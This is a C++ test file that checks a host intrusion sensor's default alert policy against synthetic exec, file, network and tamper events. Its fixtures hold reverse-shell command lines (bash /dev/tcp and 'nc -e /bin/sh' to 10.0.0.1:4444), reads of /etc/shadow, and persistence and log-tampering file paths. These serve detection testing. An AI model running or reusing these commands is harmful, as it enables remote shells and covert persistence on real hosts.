// The built-in policy (config/default-policy.yaml) against events written as
// the sensor writes them: each alert fires on its attack and stays quiet on
// the everyday case next to it, and the noise rules drop only noise.
#include "policy/default_policy.h"

#include <catch2/catch.hpp>
#include <string>

#include "policy/json_fields.h"
#include "policy/policy_compiler.h"
#include "policy/policy_evaluator.h"
#include "policy/policy_lint.h"

using namespace yagura::policy;

namespace {

struct Outcome {
  bool keep = true;
  std::vector<std::string> alerts;
};

class DefaultPolicy {
 public:
  DefaultPolicy() {
    auto compiled = compile_policy(default_policy_text(), std::string(kDefaultPolicyOrigin));
    if (!compiled) FAIL(compiled.error().message);
    evaluator_ = std::make_unique<PolicyEvaluator>(*compiled);
  }

  Outcome judge(const std::string& line) {
    auto event = JsonFields::parse(line);
    if (!event) FAIL(event.error().message);
    auto d = evaluator_->evaluate(*event, now_ += 1'000'000);
    Outcome out{d.keep, {}};
    for (const auto& a : d.alerts) out.alerts.push_back(a->id);
    return out;
  }

 private:
  std::unique_ptr<PolicyEvaluator> evaluator_;
  uint64_t now_ = 0;
};

std::string exec(const std::string& exe, const std::string& command_line,
                 const std::string& parent_exe, const std::string& extra = "") {
  return R"({"type":"exec","snapshot":false,"process":{"pid":10,"exe":")" + exe +
         R"(","command_line":")" + command_line + R"(","args":[],"exe_file":{"memfd":false,)" +
         R"("deleted":false}},"parent":{"pid":9,"exe":")" + parent_exe + R"("})" + extra + "}";
}

std::string file(const std::string& exe, const std::string& action, const std::string& path,
                 const std::string& more = "") {
  return R"({"type":"file","process":{"pid":10,"exe":")" + exe + R"("},"file":{"action":")" +
         action + R"(","path":")" + path + "\"" + more + "}}";
}

std::string tamper(const std::string& exe, const std::string& fields) {
  return R"({"type":"tamper","process":{"pid":10,"exe":")" + exe + R"("},"tamper":{)" + fields +
         "}}";
}

using Alerts = std::vector<std::string>;

}  // namespace

TEST_CASE("the default policy compiles without lint warnings", "[policy][default]") {
  auto compiled = compile_policy(default_policy_text(), std::string(kDefaultPolicyOrigin));
  REQUIRE(compiled);
  CHECK(lint_policy(**compiled).empty());
  CHECK((*compiled)->name() == "yagura-default");
}

TEST_CASE("default policy: process alerts", "[policy][default]") {
  DefaultPolicy p;
  CHECK(p.judge(exec("/bin/bash", "bash -c id", "/usr/sbin/nginx")).alerts ==
        Alerts{"exec.shell-from-network-service"});
  CHECK(p.judge(exec("/bin/bash", "bash -c id", "/usr/sbin/sshd")).alerts.empty());
  CHECK(p.judge(exec("/usr/bin/python3", "python3 app.py", "/usr/sbin/nginx")).alerts.empty());

  CHECK(p.judge(exec("/bin/bash", "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'",
                     "/usr/bin/python3"))
            .alerts == Alerts{"exec.reverse-shell-command"});
  CHECK(p.judge(exec("/usr/bin/nc", "nc -e /bin/sh 10.0.0.1 4444", "/bin/bash")).alerts ==
        Alerts{"exec.reverse-shell-command"});
  CHECK(p.judge(exec("/usr/bin/nc", "nc -zv db01 5432", "/bin/bash")).alerts.empty());

  CHECK(p.judge(exec("/tmp/x", "/tmp/x", "/bin/bash")).alerts ==
        Alerts{"exec.from-temporary-directory"});
  CHECK(p.judge(exec("/usr/bin/ls", "ls /tmp", "/bin/bash")).alerts.empty());
  CHECK(p.judge(R"x({"type":"exec","snapshot":false,"process":{"exe":"/memfd:x (deleted)",)x"
                R"x("exe_file":{"memfd":true,"deleted":true}}})x")
            .alerts == Alerts{"exec.fileless"});
  // A snapshot is a process that ran before the sensor, not an execution.
  CHECK(p.judge(R"({"type":"exec","snapshot":true,"process":{"exe":"/tmp/x"}})").alerts.empty());
}

TEST_CASE("default policy: network alerts and noise", "[policy][default]") {
  DefaultPolicy p;
  const std::string shell_connect =
      R"({"type":"network","process":{"exe":"/bin/bash"},"network":{"action":"connect",)"
      R"("loopback":false,"destination":{"ip":"203.0.113.9","port":4444}}})";
  CHECK(p.judge(shell_connect).alerts == Alerts{"network.shell-connects-out"});
  const std::string curl_connect =
      R"({"type":"network","process":{"exe":"/usr/bin/curl"},"network":{"action":"connect",)"
      R"("loopback":false,"destination":{"ip":"203.0.113.9","port":443}}})";
  Outcome curl = p.judge(curl_connect);
  CHECK(curl.keep);
  CHECK(curl.alerts.empty());

  CHECK_FALSE(p.judge(R"({"type":"dns","dns":{"direction":"answer"}})").keep);
  CHECK(p.judge(R"({"type":"dns","dns":{"direction":"query"}})").keep);
  CHECK_FALSE(p.judge(R"({"type":"network","network":{"action":"udp_send",)"
                      R"("destination":{"ip":"10.0.0.53","port":53}}})")
                  .keep);
  CHECK_FALSE(p.judge(R"({"type":"fork","process":{"pid":3}})").keep);
  CHECK_FALSE(p.judge(R"({"type":"exit","exit":{"code":0,"signal":0}})").keep);
  CHECK(p.judge(R"({"type":"exit","exit":{"code":0,"signal":9}})").keep);
  CHECK(p.judge(R"({"type":"exit","exit":{"code":1,"signal":0}})").keep);
}

TEST_CASE("default policy: file alerts", "[policy][default]") {
  DefaultPolicy p;
  CHECK(p.judge(file("/usr/bin/vi", "open", "/etc/cron.d/backdoor")).alerts ==
        Alerts{"file.cron-written"});
  CHECK(p.judge(file("/usr/bin/cat", "open", "/etc/shadow", R"(,"watched_read":true)")).alerts ==
        Alerts{"file.shadow-read"});
  CHECK(p.judge(file("/usr/sbin/sshd", "open", "/etc/shadow", R"(,"watched_read":true)"))
            .alerts.empty());
  CHECK(p.judge(file("/usr/bin/tee", "open", "/root/.ssh/authorized_keys")).alerts ==
        Alerts{"file.authorized-keys-written"});
  CHECK(p.judge(file("/usr/bin/tee", "open", "/etc/ld.so.preload")).alerts ==
        Alerts{"file.ld-so-preload-written"});
  CHECK(p.judge(file("/usr/bin/cp", "rename", "/etc/systemd/system/evil.service")).alerts ==
        Alerts{"file.systemd-unit-written"});
  CHECK(p.judge(file("/usr/bin/rm", "unlink", "/root/.bash_history")).alerts ==
        Alerts{"file.history-tampered"});
  CHECK(p.judge(file("/usr/bin/truncate", "truncate", "/var/log/auth.log")).alerts ==
        Alerts{"file.logs-tampered"});
  CHECK(p.judge(file("/usr/sbin/logrotate", "unlink", "/var/log/auth.log.4.gz")).alerts.empty());
  CHECK(p.judge(file("/usr/bin/chmod", "chmod", "/tmp/rootshell", R"(,"setuid":true)")).alerts ==
        Alerts{"file.setuid-bit-set"});
}

TEST_CASE("default policy: tamper alerts", "[policy][default]") {
  DefaultPolicy p;
  CHECK(p.judge(tamper("/usr/sbin/insmod", R"("action":"module_load","success":true)")).alerts ==
        Alerts{"tamper.kernel-module-load"});
  CHECK(p.judge(tamper("/usr/bin/gdb",
                       R"("action":"ptrace","request":"PTRACE_ATTACH","success":true)"))
            .alerts == Alerts{"tamper.ptrace-attach"});
  CHECK(p.judge(tamper("/usr/bin/gdb",
                       R"("action":"ptrace","request":"PTRACE_ATTACH","success":false)"))
            .alerts.empty());
  CHECK(p.judge(tamper("/usr/bin/kill", R"("action":"kill","signal":"SIGKILL",)"
                                        R"("target":{"pid":5,"exe":"/usr/sbin/yagura-sensor"})"))
            .alerts == Alerts{"tamper.sensor-signalled"});
}
